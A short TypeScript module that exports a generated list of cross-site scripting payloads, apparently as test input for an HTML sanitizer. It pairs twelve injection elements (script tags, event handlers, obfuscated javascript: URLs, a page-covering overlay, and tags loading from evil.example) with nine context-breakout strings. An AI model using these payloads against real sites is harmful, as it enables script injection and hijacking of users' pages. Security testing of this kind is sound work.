/** Elements that would run a program, load something or change the page, if they became elements. */
const ELEMENTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<a href="java&#115;cript:alert(1)">点</a>',
  '<style>@import "http://evil.example/x.css"</style>',
  '<link rel=prefetch href=http://evil.example/>',
  '<form action=javascript:alert(1)><button>点</button></form>',
  '<audio src=x onerror=alert(1)>',
  '<div onpointerenter=alert(1) style="position:fixed;inset:0">盖住</div>',
  '<embed src=http://evil.example/x.svg>',
  '<base target=_blank href=http://evil.example/>',
]

/** Ways out of where a text may have been put: an attribute, an element, a comment, a string of a program. */
const WAYS_OUT = [
  '">',
  "'>",
  '</p></blockquote>',
  '</textarea></title>',
  '--></style></script>',
  ']]>',
  "');//",
  '\\";',
  '`}${',
]

/** Every element behind every way out. */
export const PAYLOADS: readonly string[] = WAYS_OUT.flatMap((way) => ELEMENTS.map((element) => way + element))
